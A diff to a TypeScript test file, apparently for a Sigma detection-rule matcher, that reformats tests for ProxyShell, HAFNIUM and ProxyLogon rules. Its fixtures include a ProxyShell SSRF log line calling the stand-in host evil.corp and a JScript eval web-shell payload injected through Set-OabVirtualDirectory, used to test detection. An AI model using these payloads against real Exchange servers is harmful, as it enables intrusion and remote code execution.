@@ -148,7 +148,10 @@ falsepositives:
 level: critical
 `;
 
-const IIS_FIELDS = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'.split(' ');
+const IIS_FIELDS =
+  'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'.split(
+    ' ',
+  );
 /** Sigma's web field names are IIS's, except the user agent. */
 const SIGMA_TO_IIS: Record<string, string> = { 'cs-user-agent': 'cs(User-Agent)' };
 
@@ -182,13 +185,17 @@ void test('ProxyShell pattern (rules-emerging-threats/2021/Exploits/ProxyShell-E
   assert.deepEqual(rule.fields, ['sc-status', 'cs-uri-query']);
   assert.deepEqual(rule.literals, ['@foo.com', 'autodiscover.json']);
   // The shape of the Velociraptor test line: the SSRF through autodiscover.json to /powershell, refused with 401.
-  const hit = iis('2021-08-10 02:10:11 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=8a0b1c2d; 443 - 203.0.113.9 python-requests/2.25.1 - 401 0 0 15');
+  const hit = iis(
+    '2021-08-10 02:10:11 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=8a0b1c2d; 443 - 203.0.113.9 python-requests/2.25.1 - 401 0 0 15',
+  );
   assert.equal(hit.get('cs-uri-query')?.startsWith('@evil.corp/powershell'), true);
   assert.equal(rule.match(hit), true);
   assert.equal(passesPrefilter(rule, hit.raw), true);
   // Near misses: the same request answered 200 (the _successful rule's business), and a plain autodiscover POST.
   assert.equal(rule.match(iis(hit.raw.replace(' 401 0 0 ', ' 200 0 0 '))), false);
-  const plain = iis('2021-08-10 02:10:12 10.0.0.5 POST /autodiscover/autodiscover.xml &CorrelationID=<empty>;&cafeReqId=1; 443 - 10.0.0.7 Microsoft+Office/16.0 - 401 1 2148074254 0');
+  const plain = iis(
+    '2021-08-10 02:10:12 10.0.0.5 POST /autodiscover/autodiscover.xml &CorrelationID=<empty>;&cafeReqId=1; 443 - 10.0.0.7 Microsoft+Office/16.0 - 401 1 2148074254 0',
+  );
   assert.equal(rule.match(plain), false);
 });
 
@@ -197,10 +204,14 @@ void test('HAFNIUM exploitation (rules-emerging-threats/2021/TA/HAFNIUM/web_exch
   assert.deepEqual(rule.fields, ['cs-method', 'cs-uri-query', 'cs-user-agent']);
   // Every selection needs POST, so every match contains "post"; the longer URL pieces are the better filter.
   assert.ok(rule.literals !== null && rule.literals.length > 0);
-  const hit = iis('2021-03-03 01:02:03 10.0.0.5 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=1;/ecp/y.js 443 - 198.51.100.4 ExchangeServicesClient/0.0.0.0 - 200 0 0 20');
+  const hit = iis(
+    '2021-03-03 01:02:03 10.0.0.5 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=1;/ecp/y.js 443 - 198.51.100.4 ExchangeServicesClient/0.0.0.0 - 200 0 0 20',
+  );
   assert.equal(rule.match(hit), true);
   assert.equal(passesPrefilter(rule, hit.raw), true);
-  const crawler = iis('2021-03-03 01:02:04 10.0.0.5 POST /owa/auth/Current/x.aspx /owa/auth/Current/x.aspx 443 - 198.51.100.4 DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html) - 200 0 0 20');
+  const crawler = iis(
+    '2021-03-03 01:02:04 10.0.0.5 POST /owa/auth/Current/x.aspx /owa/auth/Current/x.aspx 443 - 198.51.100.4 DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html) - 200 0 0 20',
+  );
   assert.equal(rule.match(crawler), true);
   assert.equal(passesPrefilter(rule, crawler.raw), true);
   const get = iis(hit.raw.replace(' POST ', ' GET '));
@@ -214,7 +225,8 @@ void test('ProxyLogon OAB virtual directory keywords (rules/windows/builtin/msex
   assert.deepEqual(rule.rule.logsource, { product: 'windows', service: 'msexchange-management' });
   assert.deepEqual(rule.fields, []);
   const event = (text: string): FieldAccess => ({ get: () => undefined, text: () => text });
-  const hit = 'Cmdlet Set-OabVirtualDirectory -ExternalUrl "http://f/<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request[\\"klk123456\\"],\\"unsafe\\");}</script>" -Identity "OAB (Default Web Site)"';
+  const hit =
+    'Cmdlet Set-OabVirtualDirectory -ExternalUrl "http://f/<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request[\\"klk123456\\"],\\"unsafe\\");}</script>" -Identity "OAB (Default Web Site)"';
   assert.equal(rule.match(event(hit)), true);
   assert.equal(passesPrefilter(rule, hit), true);
   assert.equal(rule.match(event('Cmdlet Set-OabVirtualDirectory -ExternalUrl "https://mail.example.org/OAB" -Identity "OAB (Default Web Site)"')), false);
